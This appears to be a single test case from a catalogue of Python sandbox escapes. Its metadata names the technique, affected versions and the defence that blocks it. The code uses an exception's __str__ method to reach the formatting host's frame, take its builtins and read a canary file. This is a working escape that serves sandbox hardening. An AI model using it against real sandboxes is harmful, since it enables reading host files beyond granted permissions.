# id: exception-subclass-str-callback
# family: exceptions
# kind: escape
# invariant: D, E
# origin: general knowledge of hosts that log the errors of their guests
# technique: whoever formats a guest's exception calls its __str__, which runs guest code with the formatter's frame below it
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import traceback


class Loud(Exception):
    def __str__(self):
        try:
            raise LookupError
        except LookupError as error:
            trusted = error.__traceback__.tb_frame.f_back
        return trusted.f_builtins["open"]("canary.txt").read()


print(traceback.format_exception_only(Loud, Loud()))
